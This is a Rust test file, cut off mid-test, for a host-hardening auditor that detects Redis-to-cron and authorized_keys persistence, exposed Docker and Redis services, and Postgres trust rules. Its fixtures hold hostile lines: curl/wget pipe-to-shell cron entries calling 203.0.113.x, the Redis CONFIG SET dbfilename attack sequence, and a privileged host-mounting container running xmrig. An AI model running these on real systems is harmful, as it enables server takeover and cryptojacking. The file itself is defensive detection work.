//! Initial access: Redis RDB dumps written as crontabs and authorized_keys (real dumps from
//! redis-server 7.0.15, committed in `fixtures/rdb/`, and regenerated here when redis-server is
//! installed), redis.conf, the Docker daemon and containers, pg_hba.conf; and the stock files of
//! Debian's redis-server, docker.io and postgresql-15 packages, which must stay silent.
//!
//! The fixtures were made with Debian 12's redis-server 7.0.15 (`--port 0 --unixsocket S
//! --enable-protected-configs yes`), exactly as the attack does it:
//! `SET x "\n\n*/1 * * * * curl -fsSL http://203.0.113.7/pm.sh | sh\n\n"`,
//! `CONFIG SET dbfilename root`, `SAVE` (`crontab-root.rdb`, stored raw: LZF saves nothing);
//! the same with two cron lines sharing a URL (`crontab-root-lzf.rdb`: Redis compressed the
//! value, no cron line is readable in the file); `SET crackit "\n\n\nssh-ed25519 ... \n\n\n"`
//! with `dbfilename authorized_keys` (`authorized_keys.rdb`).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_core::{Control, Finding, HostRoot, Outcome, Severity};
use ferret_harden::{audit_root, Check, HardenOptions};
use ferret_testkit::put as w;
use std::path::{Path, PathBuf};

fn run(root: &Path, checks: &[Check]) -> Outcome {
    let mut o = HardenOptions::default();
    o.checks = checks.to_vec();
    audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new())
}

fn with_id<'a>(f: &'a [Finding], id: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.id == id).collect()
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/rdb")
            .join(name),
    )
    .unwrap()
}

const PASSWD: &str =
    "root:x:0:0:root:/root:/bin/bash\nredis:x:998:998::/var/lib/redis:/sbin/nologin\n";

fn base(t: &Path) {
    w(t, "/etc/passwd", PASSWD);
    w(t, "/etc/group", "root:x:0:\nredis:x:998:\n");
}

/// A fixture root with passwd and group, and `files` (path, contents) written in it.
fn host(files: &[(&str, &str)]) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    for (p, c) in files {
        w(t.path(), p, c);
    }
    t
}

/// The exposure check alone on a fixture root.
fn exposure(t: &tempfile::TempDir) -> Outcome {
    run(t.path(), &[Check::Exposure])
}

/// What the line parsers make of the dumps on their own: the raw dump's cron line survives
/// (between two binary lines), the compressed dump's does not — hence the RDB walk.
#[test]
fn line_parsers_alone() {
    use ferret_harden::persistence::{scan_crontab, CrontabKind};
    let (hits, bad) = scan_crontab(&fixture("crontab-root.rdb"), CrontabKind::User);
    assert_eq!(hits.len(), 1);
    assert!(hits[0]
        .command
        .starts_with(b"curl -fsSL http://203.0.113.7/pm.sh"));
    assert!(!bad.is_empty(), "the RDB header is a malformed line");
    let (hits, _) = scan_crontab(&fixture("crontab-root-lzf.rdb"), CrontabKind::User);
    assert!(hits.is_empty(), "{hits:?}");
    let s = ferret_core::rdb::strings(&fixture("crontab-root-lzf.rdb"));
    assert!(s.complete && s.version == 10);
    assert_eq!(s.values.len(), 1);
    assert!(s.values[0]
        .windows(22)
        .any(|w| w == b"wget -q -O- http://203"));
}

fn check_cron_dump(t: &Path, spool: &str, dump: &[u8], commands: &[&str], lines: bool) {
    base(t);
    w(t, spool, dump);
    let out = run(t, &[Check::Persistence]);
    let rdb = with_id(&out.findings, "persistence.redis-rdb-file");
    assert_eq!(rdb.len(), 1, "{:#?}", out.findings);
    assert_eq!(rdb[0].severity, Severity::Critical);
    assert!(rdb[0].attack.iter().any(|a| a == "T1190"));
    assert!(rdb[0].attack.iter().any(|a| a == "T1053.003"));
    let cron = with_id(&out.findings, "persistence.cron-download-exec");
    for c in commands {
        let f = cron
            .iter()
            .find(|f| {
                f.evidence[0]
                    .excerpt
                    .as_deref()
                    .is_some_and(|e| e.starts_with(c))
            })
            .unwrap_or_else(|| panic!("{c}: {cron:#?}"));
        assert_eq!(f.evidence[0].line.is_some(), lines, "{f:#?}");
        assert!(rdb[0].detail.as_deref().unwrap().contains(c));
    }
    // The binary framing is explained by the finding, not reported line by line.
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
}

#[test]
fn rdb_crontab_raw() {
    let t = tempfile::tempdir().unwrap();
    check_cron_dump(
        t.path(),
        "/var/spool/cron/root",
        &fixture("crontab-root.rdb"),
        &["curl -fsSL http://203.0.113.7/pm.sh | sh"],
        true,
    );
}

#[test]
fn rdb_crontab_compressed() {
    let t = tempfile::tempdir().unwrap();
    check_cron_dump(
        t.path(),
        "/var/spool/cron/crontabs/root",
        &fixture("crontab-root-lzf.rdb"),
        &[
            "curl -fsSL http://203.0.113.7/pm.sh | sh",
            "wget -q -O- http://203.0.113.7/pm.sh | sh",
        ],
        false,
    );
}

#[test]
fn rdb_authorized_keys() {
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    w(
        t.path(),
        "/root/.ssh/authorized_keys",
        &fixture("authorized_keys.rdb"),
    );
    let out = run(t.path(), &[Check::Persistence]);
    let rdb = with_id(&out.findings, "persistence.redis-rdb-file");
    assert_eq!(rdb.len(), 1, "{:#?}", out.findings);
    assert!(rdb[0].attack.iter().any(|a| a == "T1098.004"));
    let d = rdb[0].detail.as_deref().unwrap();
    assert!(
        d.contains("ssh-ed25519 SHA256:") && d.contains("redis@attacker"),
        "{d}"
    );
    // No key material in the report.
    assert!(!format!("{:?}", out.findings).contains("AAAAC3NzaC1lZDI1NTE5AAAAIGlr"));
    // The key is still counted as root's.
    let count = with_id(&out.findings, "persistence.authorized-keys-count");
    assert!(count[0]
        .detail
        .as_deref()
        .unwrap()
        .contains("redis@attacker"));
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
}

/// testkit's dump writer gives the bytes redis-server 7.0.15 wrote (but the checksum, which
/// it leaves zero as `rdbchecksum no` does, and the `ctime`/`used-mem`/`aof-base` fields).
#[test]
fn testkit_dump_matches_redis_server() {
    let value = b"\n\n*/1 * * * * curl -fsSL http://203.0.113.7/pm.sh | sh\n\n";
    let ours = ferret_testkit::redis::rdb_dump(&[(b"x", value)]);
    let real = fixture("crontab-root.rdb");
    let tail = |d: &[u8]| {
        d.get(d.windows(2).position(|w| w == [0xfe, 0]).unwrap()..d.len() - 8)
            .unwrap()
            .to_vec()
    };
    assert_eq!(tail(&ours), tail(&real));
    assert_eq!(ours.get(..9), real.get(..9));
    assert_eq!(
        ferret_core::rdb::strings(&ours).values,
        ferret_core::rdb::strings(&real).values
    );
}

/// The same attack against the installed redis-server, when there is one.
#[test]
fn rdb_from_live_redis_server() {
    let have = |p: &str| {
        std::process::Command::new(p)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if !have("redis-server") || !have("redis-cli") {
        eprintln!("skipped: redis-server/redis-cli not installed (apt-get install redis-server)");
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let sock = d.path().join("r.sock");
    let mut srv = std::process::Command::new("redis-server")
        .args([
            "--port",
            "0",
            "--save",
            "",
            "--enable-protected-configs",
            "yes",
            "--unixsocket",
        ])
        .arg(&sock)
        .arg("--dir")
        .arg(d.path())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let cli = |args: &[&str]| {
        std::process::Command::new("redis-cli")
            .arg("-s")
            .arg(&sock)
            .args(args)
            .output()
            .unwrap()
    };
    for _ in 0..50 {
        if sock.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let value = "\n\n*/5 * * * * (curl -s http://203.0.113.9/cr.sh||wget -q -O- http://203.0.113.9/cr.sh)|bash\n\n";
    cli(&["set", "backup1", value]);
    cli(&["config", "set", "dbfilename", "root"]);
    let saved = cli(&["save"]);
    let _ = cli(&["shutdown", "nosave"]);
    let _ = srv.wait();
    assert!(
        String::from_utf8_lossy(&saved.stdout).contains("OK"),
        "{saved:?}"
    );
    let dump = std::fs::read(d.path().join("root")).unwrap();
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    w(t.path(), "/var/spool/cron/root", &dump);
    let out = run(t.path(), &[Check::Persistence]);
    assert_eq!(
        with_id(&out.findings, "persistence.redis-rdb-file").len(),
        1
    );
    assert!(
        !with_id(&out.findings, "persistence.cron-download-exec").is_empty(),
        "{:#?}",
        out.findings
    );
}

/// Downloads and unpacks the stock packages into a directory (skips with a printed reason).
fn stock(names: &[&str]) -> Option<tempfile::TempDir> {
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("exposure-debs");
    let t = tempfile::tempdir().unwrap();
    let got = ferret_testkit::debs::unpack(names, &cache, t.path());
    (got == names.len()).then_some(t)
}

fn copy(from: &Path, to: &Path, rel: &str, dst: &str) {
    w(
        to,
        dst,
        &std::fs::read(from.join(rel.trim_start_matches('/'))).unwrap(),
    );
}

#[test]
fn redis_stock_debian_config_is_quiet_and_edits_are_not() {
    let Some(pkg) = stock(&["redis-server"]) else {
        return;
    };
    let conf = std::fs::read_to_string(pkg.path().join("etc/redis/redis.conf")).unwrap();
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    // Debian's file, as Debian and (as /etc/redis.conf) CentOS place it.
    w(t.path(), "/etc/redis/redis.conf", &conf);
    w(t.path(), "/etc/redis.conf", &conf);
    let out = run(t.path(), &[Check::Exposure]);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // The edits the tutorials give "to reach Redis from another host".
    let bound = conf.replace("\nbind 127.0.0.1 -::1\n", "\nbind 0.0.0.0\n");
    let open = bound.replace("\nprotected-mode yes\n", "\nprotected-mode no\n");
    assert!(open != bound && bound != conf);
    // An explicit bind with protected mode on: before Redis 7 protected mode applies only
    // without a bind (open), from 7.0 whatever the bind (closed). The version comes from the
    // package database; unknown (a tarball install), one step lower and said.
    w(t.path(), "/etc/redis/redis.conf", &bound);
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f[0].severity, Severity::High, "{f:#?}");
    assert!(f[0]
        .detail
        .as_deref()
        .unwrap()
        .contains("no package database records the Redis version"));
    let status = |v: &str| {
        format!("Package: libc6\nStatus: install ok installed\nVersion: 2.36-9\n\nPackage: redis-server\nStatus: install ok installed\nVersion: {v}\n\n")
    };
    w(
        t.path(),
        "/var/lib/dpkg/status",
        &status("5:6.0.16-1+deb11u2"),
    );
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f[0].severity, Severity::Critical, "{f:#?}");
    assert!(f[0]
        .detail
        .as_deref()
        .unwrap()
        .contains("installed Redis 5:6.0.16-1+deb11u2: before 7.0 protected mode applies only when no bind is given, it does not protect here"));
    w(
        t.path(),
        "/var/lib/dpkg/status",
        &status("5:7.0.15-1~deb12u1"),
    );
    let out = run(t.path(), &[Check::Exposure]);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    // Switched off, it is open whatever the version.
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &bound.replace("\nprotected-mode yes\n", "\nprotected-mode no\n"),
    );
    let out = run(t.path(), &[Check::Exposure]);
    assert_eq!(
        with_id(&out.findings, "exposure.redis-no-auth")[0].severity,
        Severity::Critical
    );
    std::fs::remove_file(t.path().join("var/lib/dpkg/status")).unwrap();
    // No bind at all: protected mode protects; switched off, it is open.
    let unbound = conf.replace("\nbind 127.0.0.1 -::1\n", "\n");
    w(t.path(), "/etc/redis/redis.conf", &unbound);
    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &unbound.replace("\nprotected-mode yes\n", "\nprotected-mode no\n"),
    );
    assert_eq!(
        run(t.path(), &[Check::Exposure]).findings[0].severity,
        Severity::Critical
    );
    w(t.path(), "/etc/redis/redis.conf", &open);
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].evidence[0].excerpt.as_deref(), Some("bind 0.0.0.0"));
    let bind_line = open.lines().position(|l| l == "bind 0.0.0.0").unwrap() as u64 + 1;
    assert_eq!(f[0].evidence[0].line, Some(bind_line));

    // CONFIG disabled through an included file: one level lower.
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &format!("{open}\ninclude /etc/redis/conf.d/*.conf\n"),
    );
    w(
        t.path(),
        "/etc/redis/conf.d/10-hard.conf",
        "rename-command CONFIG \"\"\n",
    );
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f[0].severity, Severity::High, "{f:#?}");
    assert!(f[0]
        .evidence
        .iter()
        .any(|e| e.path == "/etc/redis/conf.d/10-hard.conf"));

    // A password (or an ACL default user with one): quiet.
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &format!("{open}\nrequirepass s3cret-Pa55\n"),
    );
    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &format!("{open}\naclfile /etc/redis/users.acl\n"),
    );
    w(t.path(), "/etc/redis/users.acl", "user default on #0b14d501a594442a01c6859541bcb3e8164d183d32937b851835442f69d5c94e ~* +@all\n");
    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
    w(
        t.path(),
        "/etc/redis/users.acl",
        "user default on nopass ~* +@all\n",
    );
    assert_eq!(run(t.path(), &[Check::Exposure]).findings.len(), 1);
    // An empty requirepass is no password.
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &format!("{open}\nrequirepass \"\"\n"),
    );
    let out = run(t.path(), &[Check::Exposure]);
    assert_eq!(out.findings.len(), 1);
}

#[test]
fn redis_bt_panel_and_tarball_places() {
    let t = host(&[
        // BT-Panel's default before 7.x: no bind, protected mode off.
        (
            "/www/server/redis/redis.conf",
            "port 6379\nprotected-mode no\ndaemonize yes\n",
        ),
        // The tarball's install_server.sh file, loopback only: quiet.
        ("/etc/redis/6379.conf", "bind 127.0.0.1\nport 6379\n"),
        // Unbalanced quotes are an error with file:line.
        (
            "/usr/local/redis/redis.conf",
            "bind 10.0.0.5\nrequirepass \"x\n",
        ),
    ]);
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f.len(), 2, "{f:#?}");
    assert!(f
        .iter()
        .any(|f| f.subject == "/www/server/redis/redis.conf" && f.severity == Severity::Critical));
    assert!(f
        .iter()
        .any(|f| f.subject == "/usr/local/redis/redis.conf" && f.severity == Severity::Medium));
    assert_eq!(out.errors.len(), 1);
    assert_eq!(out.errors[0].line, Some(2));
}

const PRIV_MINER_CONFIG: &str = r#"{"ID":"7d1c0e5b2a","Name":"/sleepy_kilby","Config":{"Image":"alpine:latest","Entrypoint":null,"Cmd":["chroot","/host","sh","-c","curl -s http://203.0.113.7/d.sh | sh; /tmp/.x/xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"]},"MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true}},"State":{"Running":true}}"#;
const PRIV_MINER_HOST: &str = r#"{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0},"CapAdd":null}"#;
const PLAIN_CONFIG: &str = r#"{"ID":"aa11","Name":"/web","Config":{"Image":"nginx:1.25","Entrypoint":["/docker-entrypoint.sh"],"Cmd":["nginx","-g","daemon off;"]},"MountPoints":{"/usr/share/nginx/html":{"Source":"/srv/www","Destination":"/usr/share/nginx/html"}}}"#;
const PLAIN_HOST: &str = r#"{"Binds":["/srv/www:/usr/share/nginx/html:ro"],"Privileged":false,"PidMode":"","NetworkMode":"bridge","RestartPolicy":{"Name":"unless-stopped"}}"#;

#[test]
fn docker_stock_quiet_then_exposed_api_and_miner_container() {
    let Some(pkg) = stock(&["docker.io"]) else {
        return;
    };
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    for f in [
        "/lib/systemd/system/docker.service",
        "/lib/systemd/system/docker.socket",
        "/etc/default/docker",
    ] {
        copy(pkg.path(), t.path(), f, f);
    }
    w(
        t.path(),
        "/var/lib/docker/containers/aa11/config.v2.json",
        PLAIN_CONFIG,
    );
    w(
        t.path(),
        "/var/lib/docker/containers/aa11/hostconfig.json",
        PLAIN_HOST,
    );
    let out = run(t.path(), &[Check::Exposure]);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // The drop-in the tutorials give, and a privileged miner container.
    w(
        t.path(),
        "/etc/systemd/system/docker.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n",
    );
    w(
        t.path(),
        "/var/lib/docker/containers/7d1c0e5b2a/config.v2.json",
        PRIV_MINER_CONFIG,
    );
    w(
        t.path(),
        "/var/lib/docker/containers/7d1c0e5b2a/hostconfig.json",
        PRIV_MINER_HOST,
    );
    let out = run(t.path(), &[Check::Exposure]);
    let api = with_id(&out.findings, "exposure.docker-api");
    assert_eq!(api.len(), 1, "{:#?}", out.findings);
    assert_eq!(api[0].severity, Severity::Critical);
    assert_eq!(
        api[0].evidence[0].path,
        "/etc/systemd/system/docker.service.d/override.conf"
    );
    assert_eq!(api[0].evidence[0].line, Some(3));
    let m = with_id(&out.findings, "exposure.docker-malicious-container");
    assert_eq!(m.len(), 1, "{:#?}", out.findings);
    assert_eq!(m[0].subject, "sleepy_kilby");
    assert!(m[0].attack.iter().any(|a| a == "T1496") && m[0].attack.iter().any(|a| a == "T1611"));
    let e = with_id(&out.findings, "exposure.docker-container-escape");
    assert_eq!(e.len(), 1);
    assert_eq!(e[0].severity, Severity::High);
    let ex: Vec<&str> = e[0]
        .evidence
        .iter()
        .filter_map(|e| e.excerpt.as_deref())
        .collect();
    assert!(ex.contains(&"HostConfig.Privileged: true"), "{ex:?}");
    assert!(
        ex.iter().any(|x| x.contains("host / mounted at /host")),
        "{ex:?}"
    );

    // With --tlsverify: low, not critical; a daemon.json host too.
    w(
        t.path(),
        "/etc/systemd/system/docker.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2376 --tlsverify --tlscacert=/etc/docker/ca.pem\n",
    );
    w(
        t.path(),
        "/etc/docker/daemon.json",
        "{\n  \"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]\n}\n",
    );
    let out = run(t.path(), &[Check::Exposure]);
    let api = with_id(&out.findings, "exposure.docker-api");
    assert_eq!(api.len(), 2, "{api:#?}");
    assert!(api
        .iter()
        .any(|f| f.severity == Severity::Low && f.subject == "tcp://0.0.0.0:2376"));
    assert!(api.iter().any(|f| f.severity == Severity::Critical
        && f.evidence[0].path == "/etc/docker/daemon.json"
        && f.evidence[0].line == Some(2)));
}

#[test]
fn docker_socket_mode_and_bad_json() {
    let t = host(&[
        (
            "/etc/systemd/system/docker.socket",
            "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0666\n",
        ),
        (
            "/var/lib/docker/containers/bad/config.v2.json",
            "{\"Config\":",
        ),
    ]);
    let out = exposure(&t);
    let s = with_id(&out.findings, "exposure.docker-socket-open");
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].evidence[0].line, Some(3));
    assert_eq!(out.errors.len(), 1, "{:#?}", out.errors);
}

/// The pg_hba.conf initdb writes from the package's sample with the given methods (what
/// Debian's pg_createcluster passes: peer and scram-sha-256; RHEL's postgresql-setup: ident;
/// initdb alone: trust).
fn initdb_hba(sample: &str, local: &str, host: &str) -> String {
    sample
        .replace("@authcomment@", "")
        .replace("@remove-line-for-nolocal@", "")
        .replace("@authmethodlocal@", local)
        .replace("@authmethodhost@", host)
}

#[test]
fn postgres_stock_quiet_then_trust_from_anywhere() {
    let Some(pkg) = stock(&["postgresql-15"]) else {
        return;
    };
    let share = pkg.path().join("usr/share/postgresql/15");
    let sample = std::fs::read_to_string(share.join("pg_hba.conf.sample")).unwrap();
    let conf = std::fs::read_to_string(share.join("postgresql.conf.sample")).unwrap();
    let t = tempfile::tempdir().unwrap();
    base(t.path());
    let deb: PathBuf = "/etc/postgresql/15/main".into();
    let rhel: PathBuf = "/var/lib/pgsql/data".into();
    let img: PathBuf = "/var/lib/postgresql/data".into();
    for (dir, local, host) in [
        (&deb, "peer", "scram-sha-256"),
        (&rhel, "peer", "ident"),
        (&img, "trust", "trust"),
    ] {
        w(
            t.path(),
            dir.join("pg_hba.conf").to_str().unwrap(),
            &initdb_hba(&sample, local, host),
        );
        w(
            t.path(),
            dir.join("postgresql.conf").to_str().unwrap(),
            &conf,
        );
    }
    let out = run(t.path(), &[Check::Exposure]);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // Opened to the world: listen_addresses = '*' by ALTER SYSTEM, trust for everyone.
    let hba = format!(
        "{}\nhost all all 0.0.0.0/0 trust\n",
        initdb_hba(&sample, "peer", "scram-sha-256")
    );
    w(t.path(), "/etc/postgresql/15/main/pg_hba.conf", &hba);
    w(
        t.path(),
        "/etc/postgresql/15/main/postgresql.auto.conf",
        "listen_addresses = '*'\n",
    );
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.postgres-trust");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].evidence[0].line, Some(hba.lines().count() as u64));
    assert_eq!(
        f[0].evidence[1].path,
        "/etc/postgresql/15/main/postgresql.auto.conf"
    );
    // Clear-text passwords from anywhere: medium.
    w(
        t.path(),
        "/etc/postgresql/15/main/pg_hba.conf",
        &hba.replace("0.0.0.0/0 trust", "0.0.0.0/0 password"),
    );
    let out = run(t.path(), &[Check::Exposure]);
    let f = with_id(&out.findings, "exposure.postgres-cleartext-password");
    assert_eq!(f[0].severity, Severity::Medium);
}

#[test]
fn redis_stock_debian_unit_is_quiet_and_command_line_options_count() {
    let Some(pkg) = stock(&["redis-server"]) else {
        return;
    };
    let conf = std::fs::read_to_string(pkg.path().join("etc/redis/redis.conf")).unwrap();
    let t = host(&[("/etc/redis/redis.conf", &conf)]);
    for u in [
        "/lib/systemd/system/redis-server.service",
        "/lib/systemd/system/redis-server@.service",
    ] {
        copy(pkg.path(), t.path(), u, u);
    }
    let unit =
        std::fs::read_to_string(t.path().join("lib/systemd/system/redis-server.service")).unwrap();
    assert!(unit.contains("ExecStart=/usr/bin/redis-server /etc/redis/redis.conf"));
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);

    // The drop-in the tutorials give instead of editing the file: the options override it.
    let dropin = "/etc/systemd/system/redis-server.service.d/override.conf";
    w(
        t.path(),
        dropin,
        "[Service]\nExecStart=\nExecStart=/usr/bin/redis-server /etc/redis/redis.conf --supervised systemd --daemonize no --bind 0.0.0.0 --protected-mode no\n",
    );
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Critical);
    assert_eq!(f[0].subject, "/etc/redis/redis.conf");
    assert_eq!(f[0].evidence[0].path, dropin);
    assert_eq!(f[0].evidence[0].line, Some(3));
    assert_eq!(f[0].evidence[0].excerpt.as_deref(), Some("bind 0.0.0.0"));
    assert!(f[0]
        .detail
        .as_deref()
        .unwrap()
        .contains("--protected-mode no"));
    // A password on the command line closes it, and is not in the report.
    w(
        t.path(),
        dropin,
        "[Service]\nExecStart=\nExecStart=/usr/bin/redis-server /etc/redis/redis.conf --bind 0.0.0.0 --protected-mode no --requirepass Zx9-secret\n",
    );
    let out = exposure(&t);
    assert!(out.findings.is_empty(), "{:#?}", out.findings);
    // Only the options matter: a later `--bind 127.0.0.1` wins over the file's.
    w(
        t.path(),
        "/etc/redis/redis.conf",
        &conf.replace("\nbind 127.0.0.1 -::1\n", "\nbind 0.0.0.0\n"),
    );
    w(
        t.path(),
        dropin,
        "[Service]\nExecStart=\nExecStart=/usr/bin/redis-server /etc/redis/redis.conf --bind 127.0.0.1\n",
    );
    assert!(exposure(&t).findings.is_empty());
}

#[test]
fn redis_started_by_supervisor_rc_local_and_container() {
    let t = host(&[
        // Built from the tarball, started by supervisor without a file.
        (
            "/etc/supervisor/conf.d/redis.conf",
            "[program:redis]\ncommand=/usr/local/bin/redis-server --port 6379 --protected-mode no\nautorestart=true\n",
        ),
        // rc.local of a BT-Panel-less box: a file, then a flag that opens it.
        (
            "/etc/rc.d/rc.local",
            "#!/bin/sh\ntouch /var/lock/subsys/local\nnohup /opt/redis/bin/redis-server /opt/redis/6380.conf --bind 10.0.0.5 &\n",
        ),
        ("/opt/redis/6380.conf", "port 6380\ndaemonize no\n"),
        // A template instance and a Sentinel: unknown file, another service.
        (
            "/etc/systemd/system/redis@.service",
            "[Service]\nExecStart=/usr/bin/redis-server /etc/redis/%i.conf --protected-mode no\n",
        ),
        (
            "/etc/init.d/redis-sentinel",
            "#!/bin/sh\n/usr/bin/redis-server /etc/redis/sentinel.conf --sentinel\n",
        ),
        // The official image with the protection switched off and the port published; the
        // same without a published port.
        (
            "/var/lib/docker/containers/c1/config.v2.json",
            r#"{"Name":"/cache","Config":{"Image":"redis:7","Entrypoint":["docker-entrypoint.sh"],"Cmd":["redis-server","--protected-mode","no"]}}"#,
        ),
        (
            "/var/lib/docker/containers/c1/hostconfig.json",
            r#"{"PortBindings":{"6379/tcp":[{"HostIp":"","HostPort":"6379"}]},"NetworkMode":"bridge"}"#,
        ),
        (
            "/var/lib/docker/containers/c2/config.v2.json",
            r#"{"Name":"/inner","Config":{"Image":"redis:7","Cmd":["redis-server","--protected-mode","no"]}}"#,
        ),
        (
            "/var/lib/docker/containers/c2/hostconfig.json",
            r#"{"PortBindings":{},"NetworkMode":"bridge"}"#,
        ),
    ]);
    let out = exposure(&t);
    let f = with_id(&out.findings, "exposure.redis-no-auth");
    let by = |s: &str| {
        f.iter()
            .find(|f| f.subject == s)
            .unwrap_or_else(|| panic!("{s}: {f:#?}"))
    };
    assert_eq!(f.len(), 3, "{f:#?}");
    let sup = by("/etc/supervisor/conf.d/redis.conf");
    assert_eq!(sup.severity, Severity::Critical);
    assert!(
        sup.evidence
            .iter()
            .any(|e| e.line == Some(2) && e.excerpt.as_deref() == Some("protected-mode no")),
        "{sup:#?}"
    );
    // An explicit bind with protected mode on, the version unknown (a tarball): open only
    // before Redis 7, so one step lower than an interface's high.
    let rc = by("/opt/redis/6380.conf");
    assert_eq!(rc.severity, Severity::Medium);
    assert_eq!(rc.evidence[0].path, "/etc/rc.d/rc.local");
    assert_eq!(rc.evidence[0].line, Some(3));
    let c = by("/var/lib/docker/containers/c1/config.v2.json");
    assert_eq!(c.severity, Severity::Critical);
    assert_eq!(c.evidence[0].line, None);
    assert!(out.errors.is_empty(), "{:#?}", out.errors);
}

/// A Hadoop `*-site.xml` in the shape of the tarball's files (`etc/hadoop/*-site.xml`:
/// the XML declaration, the stylesheet line, a comment, `<configuration>`), with
/// `props` (name, value) as `<property>` elements.
fn site_xml(props: &[(&str, &str)]) -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"configuration.xsl\"?>\n<!-- Site specific configuration, written for ferret's tests. -->\n<configuration>\n",
    );
    for (n, v) in props {
        s.extend([
            "  <property>\n    <name>",
            n,
            "</name>\n    <value>",
            v,
            "</value>\n  </property>\n",
        ]);
    }
    s.push_str("</configuration>\n");
    s
}

/// The 1-based line of `<name>{name}</name>` in `text`.
fn name_line(text: &str, name: &str) -> u64 {
    let needle = format!("<name>{name}</name>");
    text.lines().position(|l| l.contains(&needle)).unwrap() as u64 + 1
}

#[test]
fn yarn_resource_manager_without_authentication() {
    let core = site_xml(&[("fs.defaultFS", "hdfs://hadoop102:8020")]);
    // The single-node tutorial's yarn-site.xml: a host name for the RM, nothing on security.
    let tutorial = site_xml(&[
        ("yarn.nodemanager.aux-services", "mapreduce_shuffle"),
        ("yarn.resourcemanager.hostname", "hadoop102"),
    ]);
    let d = "/opt/module/hadoop-3.3.6/etc/hadoop";
    let t = host(&[
        (&format!("{d}/core-site.xml"), &core),
        (&format!("{d}/yarn-site.xml"), &tutorial),
        // The tarball untouched, found through HADOOP_HOME in a profile script.
        (
            "/etc/profile.d/my_env.sh",
            "#HADOOP_HOME\nexport HADOOP_HOME=/data/bigdata/hadoop-3.1.3\nexport PATH=$PATH:$HADOOP_HOME/bin\n",
        ),
        ("/data/bigdata/hadoop-3.1.3/etc/hadoop/core-site.xml", &site_xml(&[])),
        ("/data/bigdata/hadoop-3.1.3/etc/hadoop/yarn-site.xml", &site_xml(&[])),
        // Found through a unit's Environment=: every interface by bind-host.
        (
            "/etc/systemd/system/yarn-rm.service",
            "[Service]\nEnvironment=HADOOP_CONF_DIR=/srv/yarn/conf JAVA_HOME=/usr/lib/jvm/java-8\nExecStart=/srv/yarn/bin/yarn resourcemanager\n",
        ),
        ("/srv/yarn/conf/core-site.xml", &core),
        (
            "/srv/yarn/conf/yarn-site.xml",
            &site_xml(&[
                ("yarn.resourcemanager.hostname", "10.0.0.7"),
                ("yarn.resourcemanager.bind-host", "0.0.0.0"),
                ("yarn.acl.enable", "true"),
            ]),
        ),
        // Kerberos, and loopback only: quiet.
        (
            "/usr/local/hadoop-secure/etc/hadoop/core-site.xml",
